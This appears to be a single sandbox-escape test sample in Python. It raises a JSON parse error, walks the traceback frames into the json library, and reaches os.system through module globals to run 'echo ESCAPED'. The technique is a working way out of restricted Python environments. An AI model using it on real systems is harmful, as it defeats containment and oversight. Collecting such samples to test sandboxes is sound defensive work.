# kind: frames
# effect: prints ESCAPED
import json

try:
    json.loads("{")
except ValueError as error:
    step = error.__traceback__
    while step.tb_next:
        step = step.tb_next
    step.tb_frame.f_globals["re"].enum.sys.modules["os"].system("echo ESCAPED")
